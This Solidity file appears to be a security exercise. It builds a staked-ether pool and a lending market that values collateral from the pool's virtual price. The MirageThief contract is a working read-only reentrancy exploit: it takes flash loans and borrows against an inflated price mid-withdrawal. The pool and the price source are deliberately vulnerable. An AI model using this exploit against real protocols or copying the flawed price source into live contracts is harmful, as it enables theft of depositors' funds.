// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";
import {FlashLender, IBorrower} from "../props/Markets.sol";
import {WETH9} from "../props/WETH9.sol";

/// Ether against staked ether at par. Whoever leaves gets the ether first, and the rest after that.
contract StakedPool is Token {
    Token public immutable coin;

    event AddLiquidity(address indexed provider, uint256[2] amounts, uint256 supply);
    event RemoveLiquidity(address indexed provider, uint256[2] amounts, uint256 supply);
    event TokenExchange(address indexed buyer, int128 soldId, uint256 sold, int128 boughtId, uint256 bought);

    bool private locked;

    modifier lock() {
        require(!locked, "locked");
        locked = true;
        _;
        locked = false;
    }

    constructor(Token coin_) Token("steCRV", 18) {
        coin = coin_;
    }

    function add_liquidity(uint256 amount) external payable lock returns (uint256 shares) {
        uint256 before = address(this).balance - msg.value + coin.balanceOf(address(this));
        coin.transferFrom(msg.sender, address(this), amount);
        shares = totalSupply == 0 ? msg.value + amount : (msg.value + amount) * totalSupply / before;
        _mint(msg.sender, shares);
        emit AddLiquidity(msg.sender, [msg.value, amount], totalSupply);
    }

    function remove_liquidity(uint256 shares) external lock returns (uint256[2] memory out) {
        uint256 supply = totalSupply;
        _burn(msg.sender, shares);
        out[0] = address(this).balance * shares / supply;
        (bool ok,) = msg.sender.call{value: out[0]}("");
        require(ok, "not paid");
        out[1] = coin.balanceOf(address(this)) * shares / supply;
        coin.transfer(msg.sender, out[1]);
        emit RemoveLiquidity(msg.sender, out, totalSupply);
    }

    /// Ether into staked ether (0) or back (1).
    function exchange(int128 sold, uint256 amount) external payable lock returns (uint256 out) {
        out = amount * 9996 / 10_000;
        if (sold == 0) {
            require(msg.value == amount, "not the amount");
            coin.transfer(msg.sender, out);
        } else {
            coin.transferFrom(msg.sender, address(this), amount);
            (bool ok,) = msg.sender.call{value: out}("");
            require(ok, "not paid");
        }
        emit TokenExchange(msg.sender, sold, amount, 1 - sold, out);
    }

    /// Not locked, as views are not.
    function get_virtual_price() external view returns (uint256) {
        return (address(this).balance + coin.balanceOf(address(this))) * 1e18 / totalSupply;
    }

    receive() external payable {}
}

/// Lends dollars of six places against the pool's shares, at what the pool says that they are worth.
contract ShareMarket {
    StakedPool public immutable pool;
    Token public immutable dollar;
    uint256 public constant ETHER_PRICE = 2500;
    mapping(address => uint256) public collateralOf;
    mapping(address => uint256) public debtOf;
    address[] private borrowers;

    event Supplied(address indexed account, uint256 shares);
    event Withdrawn(address indexed account, uint256 shares);
    event Borrowed(address indexed account, uint256 amount);
    event Repaid(address indexed account, uint256 amount);

    constructor(StakedPool pool_, Token dollar_) {
        (pool, dollar) = (pool_, dollar_);
    }

    function supply(uint256 shares) external {
        pool.transferFrom(msg.sender, address(this), shares);
        collateralOf[msg.sender] += shares;
        emit Supplied(msg.sender, shares);
    }

    function borrow(uint256 amount) external {
        if (debtOf[msg.sender] == 0) borrowers.push(msg.sender);
        debtOf[msg.sender] += amount;
        require(debtOf[msg.sender] <= worth(collateralOf[msg.sender]) * 80 / 100, "too much");
        dollar.transfer(msg.sender, amount);
        emit Borrowed(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        dollar.transferFrom(msg.sender, address(this), amount);
        debtOf[msg.sender] -= amount;
        emit Repaid(msg.sender, amount);
    }

    function withdraw(uint256 shares) external {
        collateralOf[msg.sender] -= shares;
        require(debtOf[msg.sender] <= worth(collateralOf[msg.sender]) * 80 / 100, "too much");
        pool.transfer(msg.sender, shares);
        emit Withdrawn(msg.sender, shares);
    }

    /// In dollars of six places.
    function worth(uint256 shares) public view returns (uint256) {
        return shares * pool.get_virtual_price() / 1e18 * ETHER_PRICE / 1e12;
    }

    /// By how much the debts of all accounts exceed their collateral.
    function badDebt() external view returns (uint256 sum) {
        for (uint256 i = 0; i < borrowers.length; i++) {
            uint256 has = worth(collateralOf[borrowers[i]]);
            if (debtOf[borrowers[i]] > has) sum += debtOf[borrowers[i]] - has;
        }
    }
}

/// Borrows while the pool pays out and its price is a mirage.
contract MirageThief {
    ShareMarket private market;
    StakedPool private pool;
    uint256 private loan;
    WETH9 private constant WETH = WETH9(payable(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2));

    function run(FlashLender lender, ShareMarket market_, uint256 size, uint256 loan_, address payable payee)
        external
        payable
    {
        (market, pool, loan) = (market_, market_.pool(), loan_);
        bytes memory inner = abi.encode(lender, size, msg.value);
        lender.flashLoan(IBorrower(address(this)), Token(address(WETH)), size, inner);
        Token dollar = market_.dollar();
        dollar.transfer(payee, dollar.balanceOf(address(this)));
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    function onFlashLoan(address, Token token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (token == Token(address(WETH))) {
            WETH.withdraw(amount);
            (FlashLender lender, uint256 size, uint256 stake) = abi.decode(data, (FlashLender, uint256, uint256));
            lender.flashLoan(IBorrower(address(this)), pool.coin(), size, abi.encode(amount, stake));
            WETH.deposit{value: amount + fee}();
        } else {
            (uint256 coins, uint256 stake) = abi.decode(data, (uint256, uint256));
            token.approve(address(pool), type(uint256).max);
            uint256 shares = pool.add_liquidity{value: coins}(amount);
            // A little stays as collateral; the stake pays the fees.
            uint256 kept = stake / 2;
            pool.approve(address(market), kept);
            market.supply(kept);
            pool.remove_liquidity(shares - kept);
            uint256 short = (amount + fee - token.balanceOf(address(this))) * 10_000 / 9996 + 1;
            pool.exchange{value: short}(0, short);
        }
        token.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    receive() external payable {
        if (msg.sender == address(pool) && loan > 0) {
            market.borrow(loan);
            loan = 0;
        }
    }
}

/// Ends a large position: leaves the pool, pays the debt while the ether comes in, and takes the collateral home.
contract ShareUnwinder {
    ShareMarket private immutable market;
    address private immutable owner = msg.sender;

    constructor(ShareMarket market_) {
        market = market_;
    }

    function open(uint256 staked, uint256 kept, uint256 loan) external payable {
        StakedPool pool = market.pool();
        pool.coin().transferFrom(msg.sender, address(this), staked);
        pool.coin().approve(address(pool), staked);
        pool.add_liquidity{value: msg.value}(staked);
        pool.approve(address(market), kept);
        market.supply(kept);
        market.borrow(loan);
    }

    function close() external {
        require(msg.sender == owner, "not the owner");
        StakedPool pool = market.pool();
        pool.remove_liquidity(pool.balanceOf(address(this)));
        pool.transfer(owner, pool.balanceOf(address(this)));
        pool.coin().transfer(owner, pool.coin().balanceOf(address(this)));
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        uint256 debt = market.debtOf(address(this));
        if (debt == 0) return;
        market.dollar().approve(address(market), debt);
        market.repay(debt);
        market.withdraw(market.collateralOf(address(this)));
    }
}
